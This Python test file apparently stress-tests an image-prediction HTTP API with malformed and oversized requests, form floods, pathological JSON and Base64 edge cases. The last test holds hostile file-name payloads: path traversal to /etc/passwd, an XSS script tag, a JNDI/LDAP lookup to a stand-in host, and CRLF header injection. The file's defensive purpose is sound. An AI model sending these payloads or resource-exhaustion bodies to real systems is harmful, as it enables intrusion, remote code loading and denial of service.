"""Attacks of rows 21 to 30: lengths, forms, JSON, Base64, options and names."""

import base64
import json
from collections.abc import Iterator

from attacking import (
    FORM,
    JSON,
    MEGABYTE,
    TEXT,
    Target,
    assert_old_failure,
    assert_refused,
    attack,
)
from hostile import RED_JPEG, UNSUPPORTED

MOST_BODY = 16 * MEGABYTE


def in_chunks(num_bytes: int) -> Iterator[bytes]:
    for start in range(0, num_bytes, MEGABYTE):
        yield bytes(min(MEGABYTE, num_bytes - start))


@attack(21)
def lengths_that_lie(target: Target) -> None:
    for body in (bytes(MOST_BODY + 1), in_chunks(MOST_BODY + 1)):
        assert_refused(target.predict(body), 413, "body-too-large")
    kind = "Content-Type: image/jpeg"
    assert (
        target.raw(target.head("/v1/predict", kind, "Content-Length: 100"), RED_JPEG).status == 422
    )
    for line in ("Content-Length: -5", f"Content-Length: {'9' * 5000}", "Content-Length: 5, 5"):
        assert target.raw(target.head("/v1/predict", line)).status == 400
    finely = target.head("/v1/predict", kind, "Transfer-Encoding: chunked")
    with target.costing() as cost:
        assert target.raw(finely, b"1\r\nx\r\n" * 1_000_000).status == 400
    assert cost.seconds < 1
    with target.connect() as long:
        long.sendall(target.head("/v1/predict", "Content-Length: 9999999") + RED_JPEG)
        assert target.predict(RED_JPEG).status_code == 200


@attack(22)
def bodies_far_beyond_the_limit(target: Target) -> None:
    with target.costing() as cost:
        for num_bytes in (20 * MEGABYTE, 60 * MEGABYTE):
            assert_refused(target.predict(bytes(num_bytes)), 413, "body-too-large")
        head = target.head("/v1/predict", f"Content-Length: {2**31}")
        assert target.raw(head, *in_chunks(40 * MEGABYTE)).status == 413
        old = target.raw(target.head("/image/detection", f"Content-Length: {2**31}"))
        assert json.loads(old.body)["code"] == "98"
    assert cost.written < 1
    assert cost.memory < 20
    with target.costing() as cost:
        assert_refused(target.predict(in_chunks(60 * MEGABYTE)), 413, "body-too-large")
    assert cost.written < 20


@attack(23)
def megabytes_of_base64(target: Target) -> None:
    for num_bytes in (300_000, 450_000, 4_500_000):
        data = RED_JPEG.ljust(num_bytes, b"\0")
        text = base64.b64encode(data)
        assert target.predict({"imageBase64String": text}, kind=FORM).json()["label"] == "red"
        assert target.upload(("imageBase64String", (None, text))).json()["label"] == "red"
        assert target.predict_old(data).json()["predictedClass"] == "red"


@attack(24)
def floods_of_fields(target: Target) -> None:
    for body in (b"a&" * 8_000_000, b"%41=%41&" * 2_000_000):
        with target.costing() as cost:
            assert_refused(target.predict(body, kind=FORM), 413, "too-many-fields")
        assert cost.seconds < 0.5
        assert cost.memory < 60
        old = {"data": body, "headers": {"Content-Type": FORM}}
        assert_old_failure(target.ask("POST", "/image/detection", **old))
    assert_refused(target.predict(RED_JPEG, "?" + "a&" * 100_000), 413, "too-many-fields")
    for body in (b"image=" + b"%41" * 5_000_000, b"%41" * 5_000_000 + b"=1"):
        with target.costing() as cost:
            assert_refused(target.predict(body, kind=FORM), 400, "malformed-body")
        assert cost.seconds < 0.5


def part(head: str, value: bytes) -> bytes:
    return f"--b\r\n{head}\r\n\r\n".encode() + value + b"\r\n"


@attack(25)
def strange_forms(target: Target) -> None:
    named = 'Content-Disposition: form-data; name="image"'
    whole = part(f'{named}; filename="a"', RED_JPEG) + b"--b--\r\n"
    inner = part(f"{named}\r\nContent-Type: multipart/mixed; boundary=c", b"--c\r\n\r\nx\r\n--c--")
    kind = "multipart/form-data; boundary=b"
    cases = {
        "1001 parts": (part('Content-Disposition: form-data; name="a"', b"") * 1001, kind, 413),
        "no boundary": (whole, "multipart/form-data", 400),
        "long boundary": (whole, f"multipart/form-data; boundary={'b' * 100_000}", 400),
        "nested": (inner + b"--b--\r\n", kind, 400),
        "no name": (part("Content-Disposition: form-data", b"x") + b"--b--\r\n", kind, 400),
        "no head": (b"--b\r\n\r\nx\r\n--b--\r\n", kind, 400),
        "line breaks": (b"\r\n" * 7_000_000, kind, 400),
        "part headers": (part(named + "\r\nX: y" * 2_000_000, b"x") + b"--b--", kind, 400),
        "file name": (part(f'{named}; filename="{"y" * 20_000}"', b"x") + b"--b--", kind, 400),
        "boundaries": (b"--b\r\n" * 2_000_000, kind, 413),
    }
    assert target.predict(whole, kind=kind).json()["label"] == "red"
    for name, (body, own_kind, status) in cases.items():
        with target.costing() as cost:
            assert target.predict(body, kind=own_kind).status_code == status, name
        assert cost.seconds < 1, name
    long = target.head("/v1/predict", f"Content-Type: {kind}{'b' * MEGABYTE}", "Content-Length: 1")
    assert target.raw(long, b"x").status == 431


@attack(26)
def strange_json(target: Target) -> None:
    bodies = (
        b"[" * 100_000, b"[" + b"[]," * 5_000_000 + b"[]]", b'{"image": NaN}', b'{"image": 1}',
        b"{" + b'"a":1,' * 2_500_000 + b"}", b"[" + b"{}," * 5_000_000 + b"1]", b"1," * 7_500_000,
        b'{"image": "%b", "image": "%b"}' % (TEXT.encode(), TEXT.encode()),
        b'{"data_id": "%b"}' % (b"x" * 16_000_000), b'\xef\xbb\xbf{"image": ""}',
        json.dumps({"image": TEXT}).encode("utf-16"), b'{"image": "\\ud800"}', b"\xff\xfe",
        b"1e999",        b'{"top_k": ' + b"9" * 5000 + b"}", b'{"image": "%b' % TEXT.encode(),
    )  # fmt: skip
    for body in bodies:
        with target.costing() as cost:
            assert target.predict(body, kind=JSON).status_code == 400, body[:40]
        assert cost.seconds < 0.5, body[:40]


@attack(27)
def base64_of_all_kinds(target: Target) -> None:
    text = base64.b64encode(RED_JPEG + b"\xfb\xef\xbe" * 50 + b"\xff\xff").decode()
    assert {"+", "/", "="} < set(text)
    changed = (
        f"data:image/jpeg;base64,{text}",
        "\r\n".join(text[start : start + 76] for start in range(0, len(text), 76)),
        text.replace("+", " "),
        text.replace("+", "-").replace("/", "_"),
        text.rstrip("="),
    )
    for one in changed:
        assert target.predict({"image": one}, kind=FORM).json()["label"] == "red"
        assert target.predict(json.dumps({"image": one}), kind=JSON).json()["label"] == "red"
        old = target.ask("POST", "/image/detection", data={"imageBase64String": one})
        assert old.json()["predictedClass"] == "red"


@attack(28)
def no_base64(target: Target) -> None:
    for text in ("!!!!", "A", "AAAAA", "====", "ñandú===", "AB=CD"):
        assert_refused(target.predict({"image": text}, kind=FORM), 400, "bad-base64")
        assert_old_failure(target.ask("POST", "/image/detection", data={"imageBase64String": text}))
    twice = base64.b64encode(TEXT.encode())
    assert_refused(target.predict({"image": twice}, kind=FORM), 415, UNSUPPORTED)


@attack(29)
def wrong_options(target: Target) -> None:
    for option in (
        "top_k=-1", "top_k=1e9", "top_k=abc", "threshold=nan", "threshold=2", "treshold=1",
        "frames=1000", "top_k=1&top_k=1", "data_id=%00",
    ):  # fmt: skip
        assert_refused(target.predict(RED_JPEG, f"?{option}"), 400, "bad-parameter")


@attack(30)
def names_of_files(target: Target) -> None:
    names = (
        "../../etc/passwd", "x" * 10_000, "a\0b", "<script>alert(1)</script>", "\u202egpj.exe",
        "CON", "%0d%0aSet-Cookie: a=b", "a\\b", "${jndi:ldap://h.example}",
    )  # fmt: skip
    for name in names:
        head = f'Content-Disposition: form-data; name="image"; filename="{name}"'
        body = part(head, RED_JPEG) + b"--b--\r\n"
        answer = target.predict(body, kind="multipart/form-data; boundary=b")
        assert (answer.status_code, answer.json()["label"]) == (200, "red"), name
        assert name not in answer.text + str(answer.headers)
        assert name not in target.server.log()
    target.raw(b"GET /<script>%0d%0a%e2%80%ae%1b[2J HTTP/1.1\r\nHost: localhost\r\n\r\n")
    log = target.server.log()
    assert not {"\r", "\x1b", "\u202e"} & set(log)
